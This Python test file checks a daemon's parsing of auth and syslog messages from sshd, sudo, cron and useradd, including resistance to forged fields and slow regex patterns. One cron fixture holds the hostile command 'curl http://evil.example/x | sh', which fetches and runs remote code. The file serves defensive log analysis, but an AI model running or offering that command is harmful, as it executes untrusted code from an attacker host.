"""What programs say; and for every kind of message and every trick with a name: the fields are the program's own."""

import time
from collections import Counter
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.events.messages import parse_message, service_of, understand, unfold
from daemon.events.stamps import Stamps
from daemon.events.syslog import parse_head, syslog_fields

PAM = "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root"


@pytest.mark.parametrize(
    ("program", "facility", "service"),
    [
        *((name, None, "sshd") for name in ("sshd", "sshd-session")),
        ("sshd", 10, "sshd"),
        ("sudo", 10, "sudo"),
        *((name, None, "auth") for name in ("su", "useradd", "passwd", "systemd-logind", "pkexec")),
        *((name, None, "cron") for name in ("cron", "CRON", "crontab", "crond")),
        ("vsftpd", None, "vsftpd"),
        ("clamd", None, "clamav"),
        ("guacd", None, "guacamole"),
        ("something", 10, "auth"),
        ("something", 9, "cron"),
        ("something", 3, "syslog"),
        ("kernel", None, "syslog"),
    ],
)
def test_services(program: str, facility: int | None, service: str) -> None:
    assert service_of(program, facility) == service


@pytest.mark.parametrize(
    ("program", "message", "fields"),
    [
        (
            "sudo",
            "  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id -u",
            {
                "action": "sudo",
                "result": "success",
                "user": "bob",
                "TTY": "pts/0",
                "PWD": "/home/bob",
                "USER": "root",
                "COMMAND": "/usr/bin/id -u",
            },
        ),
        (
            "sudo",
            "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su",
            {"action": "sudo_refused", "result": "failure", "reason": "3 incorrect password attempts"},
        ),
        (
            "sudo",
            "bob : HOST=h ; TTY=x ; PWD=/ ; USER=root ; GROUP=adm ; TSID=1 ; COMMAND=/bin/su",
            {"action": "sudo", "GROUP": "adm", "USER": "root"},
        ),
        ("sudo", "bob : TTY=x ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh", {"USER": "#-1"}),
        (
            "sudo",
            "bob : TTY=x ; PWD=/ ; USER=alice ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/sh",
            {"USER": ("alice", "root")},
        ),
        (
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)",
            {"action": "session_opened", "user": "root", "by": "bob"},
        ),
        (
            "su",
            "Successful su for root by bob",
            {"action": "su", "result": "success", "user": "bob", "as_user": "root"},
        ),
        ("su", "FAILED SU (to root) bob on pts/0", {"action": "su", "result": "failure", "user": "bob"}),
        ("su", "(to root) bob on none", {"action": "su", "result": "success", "as_user": "root"}),
        (
            "CRON",
            "(root) CMD (curl http://evil.example/x | sh)",
            {"action": "cron_cmd", "user": "root", "command": "curl http://evil.example/x | sh"},
        ),
        ("crontab", "(bob) BEGIN EDIT (bob)", {"action": "cron_begin_edit", "user": "bob"}),
        (
            "useradd",
            "new user: name=eve, UID=0, GID=0, home=/, shell=/bin/sh",
            {"action": "user_added", "target": "eve", "uid": "0"},
        ),
        ("useradd", "new group: name=eve, GID=1", {"action": "group_added", "target": "eve"}),
        ("usermod", "add 'eve' to shadow group 'sudo'", {"action": "member_added", "target": "eve", "group": "sudo"}),
        ("userdel", "delete user 'eve'", {"action": "user_removed", "target": "eve"}),
        (
            "passwd",
            "pam_unix(passwd:chauthtok): password changed for eve",
            {"action": "password_changed", "target": "eve"},
        ),
        ("systemd-logind", "New session 5 of user bob.", {"action": "new_session", "user": "bob"}),
        ("sshd", PAM, {"action": "auth_failure", "src_ip": "192.0.2.1", "user": "root", "pam_module": "pam_unix"}),
        ("sshd", PAM.replace("user=root", "user=x rhost=198.51.100.6  user=root"), {"src_ip": "192.0.2.1"}),
        (
            "sshd",
            "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.1  user=root",
            {"action": "auth_failure", "src_ip": "192.0.2.1"},
        ),
    ],
)
def test_messages(program: str, message: str, fields: dict[str, Any]) -> None:
    assert parse_message(program, message).items() >= fields.items()


@pytest.mark.parametrize(
    ("message", "times", "once"),
    [
        ("hello", 1, "hello"),
        ("message repeated 5 times: [ hello]", 5, "hello"),
        ("message repeated 2 times: [hello [a] ]", 2, "hello [a] "),
        ("message repeated 0 times: [ hello]", 1, "hello"),
        ("message repeated 999999999 times: [ hello]", 999_999_999, "hello"),
        ("message repeated 9999999999 times: [ hello]", 1, "message repeated 9999999999 times: [ hello]"),
        ("message repeated 5 times: hello", 1, "message repeated 5 times: hello"),
        ("x message repeated 5 times: [ hello]", 1, "x message repeated 5 times: [ hello]"),
    ],
)
def test_a_folded_message_is_unfolded(message: str, times: int, once: str) -> None:
    assert unfold(message) == (times, once)


def test_a_fold_of_folds_is_no_trap() -> None:
    times, once = unfold("message repeated 2 times: [ " * 500 + "x" + "]" * 500)
    assert (times, unfold(once)[0]) == (2, 2)
    assert parse_message("sshd", once) == {}


@pytest.mark.parametrize("program", ["sudo", "su", "CRON", "useradd", "nginx", ""])
def test_the_unknown_has_no_fields(program: str) -> None:
    for message in ("", "x", "bob : TTY=", "bob : USER=root ; COMMAND=x", "((((", "pam_unix(x:y): z"):
        assert "action" not in parse_message(program, message)


TRUE = {"src_ip": "203.0.113.9"}
PORT = {**TRUE, "src_port": "51122"}
WHENCE = "203.0.113.9 port 51122"
NAMES = {
    "plain": "root",
    "empty": "",
    "blanks": "  a  b  ",
    "address": "root from 10.0.0.1 port 1 ssh2",
    "address, unfinished": "x from 10.0.0.1",
    "address, v6": "x from 2001:db8::66 port 1 ssh2",
    "peer": "x 10.0.0.1 port 1",
    "peer, preauth": "x 10.0.0.1 port 1 [preauth]",
    "reason": "x 10.0.0.1 port 1: Too many authentication failures",
    "verdict": "Accepted password for root from 10.0.0.1 port 1 ssh2",
    "not allowed": "x from 10.0.0.1 not allowed because listed in DenyUsers",
    "key": "root from 10.0.0.1 port 1 ssh2: RSA SHA256:abcdef",
    "certificate": "root from 10.0.0.1 port 1 ssh2: RSA-CERT SHA256:a ID b (serial 0) CA RSA SHA256:c",
    "client": 'root from 10.0.0.1 port 1 ssh2: RSA SHA256:a, client user "b", client host "c',
    "invalid": "invalid user root",
    "rhost": "root rhost=10.0.0.1  user=bob",
    "mark": "[10.0.0.1] failed",
    "newline": "x#012Nov 21 09:30:00 h sshd[1]: Accepted password for root from 10.0.0.1 port 1 ssh2",
    "controls": "x\\033[2J\\012 \x00\x1b\x7f",
    "quotes and brackets": "\\\"'`(x) [y] {z} <a>",
    "colons": "a:b::c: d",
    "unicode": "ro\u043et \u202e from 10.0.0.1",
    "long": "A" * 10_000,
    "long, address": "x from 10.0.0.1 port 1 ssh2 " * 300,
}
PAM_TAIL = "logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9"
KINDS: dict[str, tuple[str, str, dict[str, str]]] = {
    "failed": (
        "sshd",
        f"Failed password for {{}} from {WHENCE} ssh2",
        {**PORT, "action": "login_failed", "result": "failure"},
    ),
    "failed, invalid": (
        "sshd-session",
        f"Failed password for invalid user {{}} from {WHENCE} ssh2",
        {**PORT, "action": "login_failed", "result": "failure", "invalid_user": "true"},
    ),
    "failed none": ("sshd", f"Failed none for invalid user {{}} from {WHENCE} ssh2", {**PORT, "method": "none"}),
    "failed, protocol 1": ("sshd", f"Failed password for {{}} from {WHENCE}", {**PORT, "action": "login_failed"}),
    "failed key": (
        "sshd",
        f"Failed publickey for invalid user {{}} from {WHENCE} ssh2: ED25519 SHA256:zzz",
        {**PORT, "action": "login_failed", "method": "publickey", "fingerprint": "SHA256:zzz", "key_type": "ED25519"},
    ),
    "failed keyboard": (
        "sshd",
        f"Failed keyboard-interactive/pam for invalid user {{}} from {WHENCE} ssh2 [preauth]",
        {**PORT, "method": "keyboard-interactive/pam"},
    ),
    "failed, v6": (
        "sshd",
        "Failed password for invalid user {} from 2001:db8::17 port 7 ssh2",
        {"src_ip": "2001:db8::17", "src_port": "7"},
    ),
    "accepted": (
        "sshd",
        f"Accepted password for {{}} from {WHENCE} ssh2",
        {**PORT, "action": "login", "result": "success"},
    ),
    "accepted key": (
        "sshd",
        f"Accepted publickey for {{}} from {WHENCE} ssh2: RSA SHA256:zzz",
        {**PORT, "action": "login", "fingerprint": "SHA256:zzz"},
    ),
    "postponed": (
        "sshd",
        f"Postponed publickey for {{}} from {WHENCE} ssh2 [preauth]",
        {**PORT, "action": "key_postponed"},
    ),
    "partial": (
        "sshd",
        f"Partial publickey for {{}} from {WHENCE} ssh2: RSA SHA256:zzz",
        {**PORT, "action": "login_partial"},
    ),
    "invalid": ("sshd", f"Invalid user {{}} from {WHENCE}", {**PORT, "action": "invalid_user", "invalid_user": "true"}),
    "invalid, old": ("sshd", "Invalid user {} from 203.0.113.9", {**TRUE, "action": "invalid_user"}),
    "request": ("sshd", "input_userauth_request: invalid user {} [preauth]", {"action": "auth_request"}),
    "exceeded": (
        "sshd",
        f"error: maximum authentication attempts exceeded for invalid user {{}} from {WHENCE} ssh2 [preauth]",
        {**PORT, "action": "max_attempts", "result": "failure"},
    ),
    "closed": ("sshd", f"Connection closed by invalid user {{}} {WHENCE} [preauth]", {**PORT, "action": "disconnect"}),
    "reset": (
        "sshd",
        f"Connection reset by authenticating user {{}} {WHENCE} [preauth]",
        {**PORT, "action": "disconnect"},
    ),
    "disconnected": (
        "sshd",
        f"Disconnected from invalid user {{}} {WHENCE} [preauth]",
        {**PORT, "action": "disconnect"},
    ),
    "timed out": ("sshd", f"Connection from invalid user {{}} {WHENCE} timed out", {**PORT, "action": "timeout"}),
    "not allowed": (
        "sshd",
        "User {} from 203.0.113.9 not allowed because not listed in AllowUsers",
        {**TRUE, "action": "login_denied", "result": "failure"},
    ),
    "locked": (
        "sshd",
        "User {} not allowed because account is locked",
        {"action": "login_denied", "result": "failure"},
    ),
    "denied by PAM": (
        "sshd",
        "fatal: Access denied for user {} by PAM account configuration [preauth]",
        {"action": "login_denied", "result": "failure"},
    ),
    "PAM": (
        "sshd",
        "error: PAM: Authentication failure for illegal user {} from 203.0.113.9",
        {**TRUE, "action": "auth_failure", "result": "failure", "invalid_user": "true"},
    ),
    "session": ("sshd", f"Starting session: shell on pts/0 for {{}} from {WHENCE} id 0", {**PORT, "action": "session"}),
    "session closed": ("sshd", f"Close session: user {{}} from {WHENCE} id 0", {**PORT, "action": "session_closed"}),
    "sftp": (
        "internal-sftp",
        "session opened for local user {} from [203.0.113.9]",
        {**TRUE, "action": "sftp_session_opened"},
    ),
    "pam_unix": (
        "sshd",
        f"pam_unix(sshd:auth): authentication failure; {PAM_TAIL}  user={{}}",
        {**TRUE, "result": "failure"},
    ),
    "pam_unix, more": ("sshd", f"PAM 2 more authentication failures; {PAM_TAIL}  user={{}}", {**TRUE, "failures": "2"}),
    "vsftpd": ("vsftpd", '[{}] FAIL LOGIN: Client "203.0.113.9"', {**TRUE, "result": "failure"}),
    "login": (
        "login",
        "FAILED LOGIN (1) on '/dev/pts/1' FROM '203.0.113.9' FOR '{}', Authentication failure",
        {**TRUE, "action": "login_failed", "result": "failure"},
    ),
    "su": ("su", "FAILED SU (to {}) bob on pts/0", {"action": "su", "result": "failure", "user": "bob"}),
}
READS_INVALID = {"failed", "failed, protocol 1", "accepted", "accepted key", "postponed", "partial"}
"""Where sshd says `invalid user ` before a stranger's name: nobody who exists is called that."""


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("trick", NAMES)
def test_no_name_forges_a_field(kind: str, trick: str) -> None:
    program, message, true = KINDS[kind]
    name = NAMES[trick]
    fields = parse_message(program, message.format(name))
    assert {key: fields.get(key) for key in true} == true
    said = fields.get("as_user" if kind == "su" else "user")
    expected = name.removeprefix("invalid user ") if kind in READS_INVALID else name
    assert (said or "") == expected


PIECES = st.lists(st.sampled_from([*NAMES.values()][:20]) | st.text(max_size=12), max_size=4).map("".join)


@given(st.sampled_from(sorted(KINDS)), PIECES)
def test_nor_does_any_mixture_of_tricks(kind: str, name: str) -> None:
    program, message, true = KINDS[kind]
    fields = parse_message(program, message.format(name))
    assert all(fields[key] == value for key, value in true.items() if key in fields)
    assert "src_ip" in fields or "src_ip" not in true or kind == "pam_unix"


@pytest.mark.parametrize("padding", range(900, 1100, 7))
def test_a_message_that_lost_its_end_gives_no_forged_address(padding: int) -> None:
    key = f"Failed publickey for root from {WHENCE} ssh2: RSA-CERT SHA256:a ID "
    sub = "Starting session: subsystem '"
    for message in (key, sub):
        forged = " for x from 10.0.0.1 port 1 ssh2"
        cut = (message + "p" * padding)[: 1023 - len(forged)] + forged
        assert parse_message("sshd", cut[:1023]).get("src_ip", "203.0.113.9") == "203.0.113.9"


FILLERS = (
    *(
        " ; USER=a ; PWD=b ; TTY=c",
        " ; COMMAND=x ; USER=",
        " rhost=x",
        " on ",
        " by ",
        "  ",
        " from a port 1",
        " from ",
        "(",
    ),
    *(
        " ssh2: RSA SHA256:x",
        " ssh2: RSA SHA256:x ID ",
        " port 1",
        ": ",
        "' FOR '",
        ", UID=1",
        "[1]: segfault at 0",
        "] ",
        "\\",
    ),
    *(
        " SRC=1.1.1.1 DST=1.1.1.1 ",
        "A=b ",
        "type=A msg=audit(1.0:1): ",
        "audit: type=1400 audit(1.0:1): a=b ",
        "x",
        "=",
        '"',
    ),
)
HEADS = (
    *("", "Failed password for ", "Failed publickey for ", "Disconnecting ", "Starting session: ", "Connection from "),
    *(
        "Invalid user ",
        "User ",
        "PAM: ",
        "Address ",
        "reverse mapping checking ",
        "bob : TTY=x ; PWD=",
        "(to ",
        "(root) CMD (",
    ),
    *(
        "pam_unix(a:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=",
        "pam_unix(a:session): session opened for ",
    ),
    *(
        "new user: name=",
        "add '",
        "IN= OUT= ",
        "Out of memory: Killed process 1 (",
        "nginx.service: ",
        "Started ",
        "New session ",
    ),
    *(
        "message repeated 2 times: [ ",
        "oom-kill:constraint=A,",
        "type=A msg=audit(1.0:1): ",
        "Operator of unix-session:",
    ),
)
PROGRAMS = (
    "sshd",
    "sudo",
    "su",
    "CRON",
    "useradd",
    "kernel",
    "systemd",
    "login",
    "polkitd",
    "vsftpd",
    "audispd",
    "systemd-logind",
)


@pytest.mark.parametrize("program", PROGRAMS)
def test_any_message_is_read_in_linear_time(program: str) -> None:
    """16,000 characters are the most that is looked at: a quadratic pattern takes seconds for one of these, not 20 ms."""
    for head in HEADS:
        for filler in FILLERS:
            message = (head + filler * 16_000)[:16_000]
            began = time.process_time()
            understand(program, message)
            assert time.process_time() - began < 0.1, (head, filler)


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_message_of_a_megabyte_is_left_alone(program: str) -> None:
    for head in HEADS:
        assert understand(program, head + "x from a port 1 " * 65_536)[1] == {}
    assert unfold("message repeated 2 times: [ " + "]" * 1_000_000)[0] == 2


def test_the_service_of_a_message() -> None:
    session = "pam_unix(cron:session): session opened for user root by (uid=0)"
    for program, message, service in (
        ("CRON", "(root) CMD (x)", "cron"), ("CRON", session, "auth"), ("systemd", session, "auth"), ("sshd", session, "sshd"),
        ("sudo", session, "sudo"), ("vsftpd", session, "auth"), ("kernel", "x", "syslog"), ("nginx", "pam_x", "syslog"),
        ("kernel", 'audit: type=1400 audit(1.0:1): apparmor="DENIED"', "auditd"), ("nginx", "x", "syslog"),
        ("gdm-password]", "x", "auth"), ("audispd", "type=AVC msg=audit(1.0:1): a=b", "auditd"), ("auditd", "x", "syslog"),
    ):  # fmt: skip
        assert understand(program, message)[0] == service, (program, message)
    assert understand("CRON", session, 10)[0] == understand("CRON", "x", 10)[0] == "auth"


NOT_UNDERSTOOD = {
    *("User child is on pid", "Server listening on", "Received signal", "Watching system buttons", "New seat seat0."),
    "pam_systemd(su:session): Cannot create session",
}


def test_a_real_auth_log_is_understood(shared_data: Path) -> None:
    """Of 7,121 lines 37 say nothing that has a field of its own: these, and no others."""
    lines = (shared_data / "elastic-examples" / "auth.log").read_text("utf-8", "backslashreplace").splitlines()
    actions: Counter[str] = Counter()
    left: Counter[str] = Counter()
    for line in lines:
        head = parse_head(line, Stamps(lambda: 1492733000.0, UTC))
        assert head is not None
        fields = syslog_fields(head)[1]
        actions[str(fields.get("action", ""))] += 1
        if "action" not in fields:
            left.update(start for start in NOT_UNDERSTOOD if head.message.startswith(start))
    assert (len(lines), actions[""], left.total()) == (7121, 37, 37)
    assert (actions["login_failed"], actions["login"], actions["invalid_user"], actions["sudo"]) == (717, 226, 178, 186)
    assert (actions["auth_failure"], actions["max_attempts"], actions["user_added"], actions["su"]) == (484, 189, 10, 9)


def test_a_repetition_of_the_line_before_says_how_many() -> None:
    for line in (
        "Nov 21 09:30:00 h last message repeated 5 times",
        "Nov 21 09:30:00 h syslogd[1]: last message repeated 5 times",
    ):
        head = parse_head(line, Stamps(lambda: 1492733000.0, UTC))
        assert head is not None
        assert head.times == 1
        assert syslog_fields(head)[1].items() >= {"action": "repeated", "times": "5"}.items()


def test_the_line_ends_of_a_relay_are_no_part_of_a_message() -> None:
    said = "Failed password for root from 203.0.113.9 port 51122 ssh2"
    assert parse_message("sshd", said + "\r") == parse_message("sshd", said)
